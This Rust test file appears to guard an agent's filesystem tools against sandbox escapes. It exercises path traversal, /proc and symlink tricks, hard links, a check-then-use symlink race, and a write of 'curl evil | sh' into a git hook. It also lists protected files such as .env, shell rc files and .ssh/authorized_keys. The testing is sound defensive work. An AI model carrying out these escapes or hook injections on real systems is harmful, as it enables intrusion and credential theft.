//! The filesystem escape corpus: every case tries to read, write, list or delete
//! something outside the workspace (or a protected file inside it) and must be refused —
//! through both resolvers (`openat2` and the `O_NOFOLLOW` walk). The shell half of the
//! corpus is in `shell_escape.rs`.

mod common;

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use _core::sandbox::path::Resolver;
use _core::tools::ToolError;
use common::*;
use serde_json::json;

/// Runs one case against a fresh fixture for each resolver.
macro_rules! case {
    ($name:ident, |$f:ident| $body:block) => {
        mod $name {
            use super::*;
            fn run($f: Fixture) $body
            #[test]
            fn openat2() {
                run(Fixture::new().resolver(Resolver::Openat2))
            }
            #[test]
            fn nofollow_walk() {
                run(Fixture::new().resolver(Resolver::Walk))
            }
        }
    };
}

// ---- traversal ----------------------------------------------------------------------

case!(dotdot_read, |f| {
    assert_eq!(rule(f.read("../outside/secret.txt")), "parent_escape");
});

case!(dotdot_deep_read, |f| {
    std::fs::create_dir_all(f.ws("a/b")).unwrap();
    assert_eq!(
        rule(f.read("a/b/../../../outside/secret.txt")),
        "parent_escape"
    );
    assert_eq!(rule(f.read("./././../outside/secret.txt")), "parent_escape");
    assert_eq!(
        rule(f.read("a/./../../outside/secret.txt")),
        "parent_escape"
    );
});

case!(dotdot_write_list_delete, |f| {
    assert_eq!(rule(f.write("../outside/pwned", "x")), "parent_escape");
    assert_eq!(
        rule(f.call("fs:list_dir", json!({"path": ".."}))),
        "parent_escape"
    );
    assert_eq!(
        rule(f.call("fs:delete", json!({"path": "../outside/secret.txt"}))),
        "parent_escape"
    );
    assert_eq!(
        rule(f.call("fs:search", json!({"path": "..", "content": "TOP"}))),
        "parent_escape"
    );
    f.assert_outside_untouched();
});

case!(dotdot_that_stays_inside_is_fine, |f| {
    std::fs::create_dir_all(f.ws("a")).unwrap();
    std::fs::write(f.ws("b.txt"), "inside").unwrap();
    assert_eq!(f.read("a/../b.txt").unwrap()["content"], "inside");
});

// ---- absolute paths and /proc -------------------------------------------------------

case!(absolute_paths, |f| {
    assert_eq!(rule(f.read("/etc/passwd")), "absolute_path");
    assert_eq!(
        rule(f.read(f.outside.join("secret.txt").to_str().unwrap())),
        "absolute_path"
    );
    // Even an absolute path that *is* inside the workspace: paths are relative, always.
    std::fs::write(f.ws("in.txt"), "x").unwrap();
    assert_eq!(
        rule(f.read(f.ws("in.txt").to_str().unwrap())),
        "absolute_path"
    );
    assert_eq!(rule(f.write("/tmp/loom-pwned", "x")), "absolute_path");
    assert!(!std::path::Path::new("/tmp/loom-pwned").exists());
});

case!(proc_self_root, |f| {
    assert_eq!(rule(f.read("/proc/self/root/etc/passwd")), "absolute_path");
    assert_eq!(rule(f.read("//proc/self/root/etc/passwd")), "absolute_path");
    // A relative `proc/...` is just a path in the workspace (which has no proc).
    assert!(matches!(
        f.read("proc/self/root/etc/passwd"),
        Err(ToolError::Failed { .. })
    ));
});

case!(proc_magic_links_through_a_symlink, |f| {
    symlink("/proc", f.ws("proc"));
    symlink("/proc/self/root", f.ws("rootlink"));
    assert_eq!(rule(f.read("proc/self/root/etc/passwd")), "symlink");
    assert_eq!(rule(f.read("proc/self/cwd/Cargo.toml")), "symlink");
    assert_eq!(rule(f.read("rootlink/etc/passwd")), "symlink");
    assert_eq!(
        rule(f.call("fs:list_dir", json!({"path": "rootlink/etc"}))),
        "symlink"
    );
});

// ---- symlinks -----------------------------------------------------------------------

case!(symlink_file_pointing_out, |f| {
    symlink(f.outside.join("secret.txt"), f.ws("link"));
    let r = f.read("link");
    assert!(!leaks(&r));
    assert_eq!(rule(r), "symlink");
});

case!(symlink_dir_pointing_out, |f| {
    symlink(&f.outside, f.ws("dir"));
    assert_eq!(rule(f.read("dir/secret.txt")), "symlink");
    assert_eq!(
        rule(f.call("fs:list_dir", json!({"path": "dir"}))),
        "symlink"
    );
});

case!(symlink_mid_path_relative, |f| {
    std::fs::create_dir_all(f.ws("a")).unwrap();
    symlink("../../outside", f.ws("a/b"));
    assert_eq!(rule(f.read("a/b/secret.txt")), "symlink");
    assert_eq!(rule(f.write("a/b/new.txt", "x")), "symlink");
    f.assert_outside_untouched();
});

case!(symlink_absolute_target, |f| {
    symlink("/etc/passwd", f.ws("passwd"));
    assert_eq!(rule(f.read("passwd")), "symlink");
});

case!(symlink_inside_is_refused_too, |f| {
    std::fs::write(f.ws("real.txt"), "inside").unwrap();
    symlink("real.txt", f.ws("alias"));
    assert_eq!(rule(f.read("alias")), "symlink");
});

case!(symlink_write_through_final_component, |f| {
    symlink(f.outside.join("secret.txt"), f.ws("link"));
    assert_eq!(rule(f.write("link", "overwritten")), "symlink");
    f.assert_outside_untouched();
    assert!(f
        .ws("link")
        .symlink_metadata()
        .unwrap()
        .file_type()
        .is_symlink());
});

case!(symlink_dir_write_and_create_parents, |f| {
    symlink(&f.outside, f.ws("dir"));
    assert_eq!(rule(f.write("dir/new.txt", "x")), "symlink");
    assert_eq!(rule(f.write("dir/sub/deeper/new.txt", "x")), "symlink");
    f.assert_outside_untouched();
});

case!(symlink_delete_removes_the_link_not_the_target, |f| {
    symlink(f.outside.join("secret.txt"), f.ws("link"));
    symlink(&f.outside, f.ws("dirlink"));
    assert_eq!(
        rule(f.call("fs:delete", json!({"path": "dirlink/secret.txt"}))),
        "symlink"
    );
    f.call("fs:delete", json!({"path": "link"})).unwrap();
    f.call("fs:delete", json!({"path": "dirlink", "recursive": true}))
        .unwrap();
    assert!(!f.ws("link").exists() && f.ws("link").symlink_metadata().is_err());
    f.assert_outside_untouched();
});

case!(symlink_never_followed_by_search_or_list, |f| {
    symlink(&f.outside, f.ws("dir"));
    std::fs::write(f.ws("ok.txt"), "nothing here").unwrap();
    let r = f
        .call("fs:search", json!({"content": "TOPSECRET"}))
        .unwrap();
    assert_eq!(r["results"], json!([]), "{r}");
    let r = f
        .call("fs:search", json!({"glob": "**/secret.txt"}))
        .unwrap();
    assert_eq!(r["results"], json!([]), "{r}");
    let r = f.call("fs:list_dir", json!({})).unwrap();
    let dir = r["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == "dir")
        .unwrap();
    assert_eq!(dir["kind"], "symlink");
});

/// A thread flips `x` between a regular file and a symlink to the secret (and `d`
/// between a directory and a symlink to the outside directory) while reads loop: no read
/// may ever return the secret.
fn race(f: Fixture, write: bool) {
    std::fs::write(f.ws("x"), "inside").unwrap();
    std::fs::create_dir(f.ws("d")).unwrap();
    std::fs::write(f.ws("d/secret.txt"), "inside").unwrap();
    let stop = Arc::new(AtomicBool::new(false));
    let flipper = {
        let (stop, root, outside) = (stop.clone(), f.root.clone(), f.outside.clone());
        std::thread::spawn(move || {
            let mut flips = 0u64;
            while !stop.load(Ordering::Relaxed) {
                // Errors are ignored: the tools race with us and may briefly win.
                let _ = std::fs::remove_file(root.join("x.tmp"));
                let _ = std::os::unix::fs::symlink(outside.join("secret.txt"), root.join("x.tmp"));
                let _ = std::fs::rename(root.join("x.tmp"), root.join("x"));
                let _ = std::fs::write(root.join("x.tmp"), "inside");
                let _ = std::fs::rename(root.join("x.tmp"), root.join("x"));
                // d: real dir <-> symlink to outside, swapped with rename(2).
                let _ = std::fs::remove_file(root.join("d.link"));
                let _ = std::os::unix::fs::symlink(&outside, root.join("d.link"));
                let _ = std::fs::rename(root.join("d"), root.join("d.real"));
                let _ = std::fs::rename(root.join("d.link"), root.join("d"));
                let _ = std::fs::remove_file(root.join("d"));
                let _ = std::fs::rename(root.join("d.real"), root.join("d"));
                flips += 1;
            }
            flips
        })
    };
    let (mut ok, mut refused) = (0u32, 0u32);
    for i in 0..3000 {
        let r = if write {
            f.call(
                "fs:write_file",
                json!({"path": "d/out.txt", "content": "w", "create_parents": false}),
            )
        } else if i % 2 == 0 {
            f.read("x")
        } else {
            f.read("d/secret.txt")
        };
        assert!(
            !leaks(&r),
            "read the secret through a swapped symlink: {r:?}"
        );
        match r {
            Ok(_) => ok += 1,
            Err(_) => refused += 1,
        }
    }
    stop.store(true, Ordering::Relaxed);
    let flips = flipper.join().unwrap();
    eprintln!("race: {ok} ok, {refused} refused, {flips} flips");
    assert!(
        flips > 10,
        "the flipper barely ran ({flips} flips): the race was not exercised"
    );
    assert!(
        ok > 0 && refused > 0,
        "both outcomes must occur for the race to be real"
    );
    f.assert_outside_untouched();
}

case!(symlink_swapped_between_check_and_use_read, |f| {
    race(f, false);
});

case!(symlink_swapped_between_check_and_use_write, |f| {
    race(f, true);
});

// ---- hard links ---------------------------------------------------------------------

case!(hard_link_to_outside_file_not_written, |f| {
    // Same filesystem (both under one temp dir), so the link can be made.
    std::fs::hard_link(f.outside.join("secret.txt"), f.ws("hl")).unwrap();
    assert_eq!(rule(f.write("hl", "overwritten")), "hard_link");
    f.assert_outside_untouched();
});

case!(hard_link_inside_not_written, |f| {
    std::fs::write(f.ws("a"), "one").unwrap();
    std::fs::hard_link(f.ws("a"), f.ws("b")).unwrap();
    assert_eq!(rule(f.write("b", "two")), "hard_link");
    assert_eq!(std::fs::read_to_string(f.ws("a")).unwrap(), "one");
});

// ---- NUL bytes, length --------------------------------------------------------------

case!(nul_bytes, |f| {
    assert_eq!(
        rule(f.read("ok.txt\0/../../outside/secret.txt")),
        "nul_byte"
    );
    assert_eq!(rule(f.write("a\0b", "x")), "nul_byte");
    assert_eq!(
        rule(f.call("fs:list_dir", json!({"path": "\0"}))),
        "nul_byte"
    );
});

case!(very_long_paths, |f| {
    let long = "a/".repeat(2100);
    // Over 4096 bytes: refused by the schema's maxLength or the path check.
    let r = f.read(&long);
    assert!(
        matches!(
            r,
            Err(ToolError::Denied { .. } | ToolError::InvalidArguments { .. })
        ),
        "{r:?}"
    );
    assert_eq!(rule(f.read(&"n".repeat(256))), "path_too_long");
    assert_eq!(
        rule(f.write(&format!("d/{}", "n".repeat(300)), "x")),
        "path_too_long"
    );
});

case!(deep_paths_stay_inside, |f| {
    let deep = format!("{}f.txt", "d/".repeat(200));
    f.write(&deep, "deep").unwrap();
    assert_eq!(f.read(&deep).unwrap()["content"], "deep");
    assert!(f.ws(&deep).is_file());
});

// ---- unicode look-alikes: just names ------------------------------------------------

case!(one_dot_leader_is_a_name, |f| {
    // U+2024 ONE DOT LEADER twice looks like "..".
    let p = "\u{2024}\u{2024}/\u{2024}\u{2024}/outside/secret.txt";
    assert!(
        matches!(f.read(p), Err(ToolError::Failed { .. })),
        "no such file inside"
    );
    f.write(p, "stays inside").unwrap();
    assert_eq!(std::fs::read_to_string(f.ws(p)).unwrap(), "stays inside");
    f.assert_outside_untouched();
});

case!(fullwidth_solidus_is_a_name, |f| {
    let p = "..\u{ff0f}outside\u{ff0f}secret.txt";
    assert!(matches!(f.read(p), Err(ToolError::Failed { .. })));
    f.write(p, "stays inside").unwrap();
    assert!(f.ws(p).is_file());
    let p = "..\u{2215}outside\u{2215}secret.txt"; // DIVISION SLASH
    f.write(p, "stays inside").unwrap();
    assert!(f.ws(p).is_file());
    f.assert_outside_untouched();
});

case!(backslashes_are_names, |f| {
    assert!(matches!(
        f.read("..\\outside\\secret.txt"),
        Err(ToolError::Failed { .. })
    ));
    f.write("..\\x", "inside").unwrap();
    assert!(f.ws("..\\x").is_file());
});

// ---- the write deny list ------------------------------------------------------------

case!(git_hooks_write, |f| {
    std::fs::create_dir_all(f.ws(".git/hooks")).unwrap();
    assert_eq!(
        rule(f.write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh")),
        "deny_write"
    );
    assert_eq!(
        rule(f.write("src/../.git/hooks/post-checkout", "x")),
        "deny_write"
    );
    assert_eq!(rule(f.write(".GIT/Hooks/pre-push", "x")), "deny_write");
    assert_eq!(
        rule(f.write(".git/config", "[core]\nfsmonitor = evil")),
        "deny_write"
    );
    assert!(!f.ws(".git/hooks/pre-commit").exists());
});

case!(git_metadata_at_any_depth_write, |f| {
    // Everything git reads as configuration or follows: the whole of .git, nested
    // repositories, `.git` files (`gitdir:` indirection), $HOME's .gitconfig and the
    // usual core.hooksPath targets.
    std::fs::create_dir_all(f.ws(".git/modules/sub")).unwrap();
    std::fs::create_dir_all(f.ws("vendor/lib")).unwrap();
    for p in [
        ".git/commondir",
        ".git/modules/sub/config",
        ".git/info/attributes",
        ".git/objects/info/alternates",
        "sub/.git/config",
        "deep/er/repo/.git/hooks/pre-commit",
        "vendor/lib/.git",
        ".gitconfig",
        "home/.gitconfig",
        ".husky/pre-commit",
        ".githooks/pre-push",
    ] {
        assert_eq!(rule(f.write(p, "x")), "deny_write", "{p}");
        assert!(!f.ws(p).exists(), "{p}");
    }
    // Ordinary git-related files are data.
    f.write(".gitignore", "target/\n").unwrap();
    f.write(".gitmodules", "").unwrap();
    std::fs::create_dir_all(f.ws("lib/.git")).unwrap();
    std::fs::write(f.ws("lib/x.txt"), "x").unwrap();
    assert_eq!(
        rule(f.call("fs:delete", json!({"path": "lib", "recursive": true}))),
        "deny_write",
        "a tree holding a nested repository"
    );
    assert!(f.ws("lib/x.txt").exists());
});

case!(git_hooks_through_a_symlink, |f| {
    std::fs::create_dir_all(f.ws(".git/hooks")).unwrap();
    symlink(".git/hooks", f.ws("h"));
    assert_eq!(rule(f.write("h/pre-commit", "x")), "symlink");
    assert!(!f.ws(".git/hooks/pre-commit").exists());
});

case!(env_and_rc_files_write, |f| {
    for p in [
        ".env",
        "app/.env",
        ".env.production",
        "app/.env.local",
        ".envrc",
        ".bashrc",
        ".profile",
        "home/.zshrc",
        ".ssh/authorized_keys",
        ".bash_profile",
    ] {
        assert_eq!(rule(f.write(p, "x")), "deny_write", "{p}");
        assert!(!f.ws(p).exists(), "{p}");
    }
});

case!(deny_list_extends_from_config, |f| {
    drop(f);
    let f = Fixture::with(|c| {
        c["tools"] = json!({"fs": {"deny_write": [".github/workflows", "*.pem"]}})
    });
    assert_eq!(rule(f.write(".github/workflows/ci.yml", "x")), "deny_write");
    assert_eq!(rule(f.write("keys/server.pem", "x")), "deny_write");
    assert_eq!(
        rule(f.write(".git/hooks/x", "x")),
        "deny_write",
        "the mandatory list stays"
    );
});

case!(delete_protected, |f| {
    std::fs::create_dir_all(f.ws(".git/hooks")).unwrap();
    std::fs::create_dir_all(f.ws("app")).unwrap();
    std::fs::write(f.ws("app/.env"), "KEY=1").unwrap();
    std::fs::write(f.ws("app/main.py"), "x").unwrap();
    assert_eq!(
        rule(f.call("fs:delete", json!({"path": ".git", "recursive": true}))),
        "deny_write"
    );
    assert_eq!(
        rule(f.call(
            "fs:delete",
            json!({"path": ".git/hooks", "recursive": true})
        )),
        "deny_write"
    );
    assert_eq!(
        rule(f.call("fs:delete", json!({"path": "app", "recursive": true}))),
        "deny_write"
    );
    assert!(
        f.ws("app/main.py").exists(),
        "refused before deleting anything"
    );
    assert_eq!(
        rule(f.call("fs:delete", json!({"path": ".", "recursive": true}))),
        "workspace_root"
    );
    assert_eq!(
        rule(f.call("fs:delete", json!({"path": "a/..", "recursive": true}))),
        "workspace_root"
    );
});

case!(read_deny_list, |f| {
    std::fs::write(f.ws(".env"), "OPENAI_API_KEY=sk-live").unwrap();
    assert_eq!(rule(f.read(".env")), "deny_read");
    let r = f
        .call(
            "fs:search",
            json!({"content": "sk-live", "include_hidden": true}),
        )
        .unwrap();
    assert_eq!(
        r["results"],
        json!([]),
        "search does not read deny-listed files"
    );
});

// ---- special files ------------------------------------------------------------------

case!(fifo_is_refused_without_hanging, |f| {
    let p = std::ffi::CString::new(f.ws("fifo").to_str().unwrap()).unwrap();
    // SAFETY: mkfifo with a valid path.
    assert_eq!(unsafe { libc::mkfifo(p.as_ptr(), 0o644) }, 0);
    assert_eq!(rule(f.read("fifo")), "special_file");
    assert_eq!(rule(f.write("fifo", "x")), "special_file");
    let r = f
        .call("fs:search", json!({"content": "x", "include_hidden": true}))
        .unwrap();
    assert_eq!(r["results"], json!([]));
});

case!(device_node_is_refused, |f| {
    if !is_root() {
        eprintln!("SKIPPED device_node_is_refused: mknod needs root");
        return;
    }
    let p = std::ffi::CString::new(f.ws("mem").to_str().unwrap()).unwrap();
    // SAFETY: mknod of a char device (1,3 = /dev/null) inside our temp dir.
    let r = unsafe { libc::mknod(p.as_ptr(), libc::S_IFCHR | 0o600, libc::makedev(1, 3)) };
    assert_eq!(r, 0, "mknod: {}", std::io::Error::last_os_error());
    assert_eq!(rule(f.read("mem")), "special_file");
    assert_eq!(rule(f.write("mem", "x")), "special_file");
    let r = f.call("fs:list_dir", json!({})).unwrap();
    assert_eq!(r["entries"][0]["kind"], "character device");
});

case!(unix_socket_is_refused, |f| {
    let _l = std::os::unix::net::UnixListener::bind(f.ws("sock")).unwrap();
    assert_eq!(rule(f.read("sock")), "special_file");
});

#[test]
fn corpus_has_at_least_forty_cases() {
    // Each `case!` is one case (run through two resolvers); count them in this file.
    let src = include_str!("sandbox_escape.rs");
    let n = src.matches("\ncase!(").count();
    let shell = include_str!("shell_escape.rs").matches("\n#[test]").count();
    eprintln!("escape corpus: {n} filesystem cases x 2 resolvers, {shell} shell cases");
    assert!(n + shell >= 40, "{n} + {shell}");
}
